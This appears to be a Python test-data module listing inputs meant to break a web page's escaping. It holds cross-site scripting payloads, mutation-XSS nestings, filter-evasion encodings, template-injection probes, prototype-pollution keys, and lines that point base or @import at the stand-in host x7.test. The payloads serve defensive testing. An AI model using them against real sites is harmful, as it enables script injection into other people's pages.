"""What people might write to break a page: short ones as names, long ones on cards."""

from __future__ import annotations

TAGS = (
    "b i p a q s u br hr svg img xss base form link meta math li td style title video audio embed "
    "frame iframe object script select dialog details template textarea noscript plaintext"
)
SHAPES = (
    "<{}>",
    "</{}>",
    "<{} x7>",
    "<{}/x7=1>",
    '"><{}>',
    "'><{}>",
    "<!--<{}>",
    "&lt;{}&gt;",
    "]]><{}>",
)
QUOTES = (
    '" x7="',
    "' x7='",
    '"x7=1 ',
    "'x7=1 ",
    "` x7=`",
    '" id="x7',
    "' id='x7",
    '"onload="x',
    "'onload='x",
    '" hx-get="/',
    "' hx-get='/",
    '"autofocus "',
    "'/*x7*/'",
    '"/*x7*/"',
    "`+x7+`",
    "'+x7+'",
    '"+x7+"',
    '\\"x7',
    "\\'x7",
    "</x7",
    "&quot;x7=1",
    "&#34; x7=1",
    "&#x27;x7=1",
    "&#60;b&#62;",
    "\uff1cb\uff1ex7",
)
TEMPLATES = (
    "{{7*7}}",
    "{%raw%}",
    "{#x7#}",
    "${7*7}",
    "#{7*7}",
    "<%=7*7%>",
    "[[7*7]]",
    "%(x7)s",
    "%s%s%s",
    "{0.x7}",
    "{x7}",
    "{name}",
    "%n%n",
    "100%",
    "javascript:1",
    "data:,x7",
    "data: x7",
    "event: ended",
    "id: 7",
    "//x7.test",
    "../../x7",
    "x7 &lrm; abc",
    "__proto__",
    "constructor",
    "toString",
)
NAMES = tuple(
    dict.fromkeys(
        " ".join(name.split())
        for name in (*(s.format(tag) for s in SHAPES for tag in TAGS.split()), *QUOTES, *TEMPLATES)
        if len(name) <= 12
    )
)

DO = "pwned=1"
ACTS = (
    f"<script>{DO}</script>",
    f"<img src=x onerror={DO}>",
    f"<svg onload={DO}>",
    f"<svg/onload={DO}//",
    f"<body onload={DO}>",
    f"<input autofocus onfocus={DO}>",
    f"<select autofocus onfocus={DO}>",
    f"<details open ontoggle={DO}>",
    f"<video><source onerror={DO}>",
    f"<audio src=x onerror={DO}>",
    f"<marquee onstart={DO}>",
    f"<a href=javascript:{DO}>x</a>",
    f"<form action=javascript:{DO}>",
    f"<iframe src=javascript:{DO}>",
    f"<object data=javascript:{DO}>",
    f"<embed src=javascript:{DO}>",
    f"<svg><set onbegin={DO}>",
    f"<svg><animate onbegin={DO}>",
    f"<svg><script>{DO}</script>",
    f"<math><mi xlink:href=javascript:{DO}>",
    f"<template><script>{DO}</script>",
    f"<style>@import'//x7.test/?{DO}'</style>",
    f"<b style=x:expression({DO})>",
    f"<b hx-on:load={DO}>",
    "<b hx-get=/credits hx-trigger=load>",
    '<hx-partial hx-target="#panel">x7',
    "<base href=//x7.test>",
    "<link rel=stylesheet href=//x7.test>",
    "<meta http-equiv=refresh content=0>",
    f'" onmouseover="{DO}',
    f"' onfocus='{DO}' autofocus='",
    f"`-{DO}-`",
    f"${{{DO}}}",
    f"{{{{{DO}}}}}",
    f"javascript:{DO}",
    f"&lt;script&gt;{DO}&lt;/script&gt;",
    f"%3Cscript%3E{DO}%3C/script%3E",
    f"\\x3cscript\\x3e{DO}",
    f"<scr<script>ipt>{DO}</script>",
    f"<ScRiPt>{DO}</sCrIpT>",
)
BEFORE = ("", '">', "'>", "</p>", "-->", "]]>", "</h2>", "</textarea>", "</title>", "</script>")
LINES = tuple(dict.fromkeys(line for b in BEFORE for act in ACTS if len(line := b + act) <= 40))
"""As long as an answer on a card may be."""
QUESTIONS = (
    f'<noscript><p title="</noscript><img src=x onerror={DO}>">',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror={DO}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={DO}>",
    f"<svg></p><style><a id='</style><img src=1 onerror={DO}>'>",
    f"<iframe srcdoc='<script>parent.{DO}</script>'></iframe>",
    f"</textarea></title></style></template></noscript></script><img src=x onerror={DO}>",
    f"<textarea autofocus onfocus={DO}><table><plaintext><style>*{{display:none}}</style>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={DO} />#x'/></svg>",
)
"""As long as a question may be: these want to be read differently the second time."""
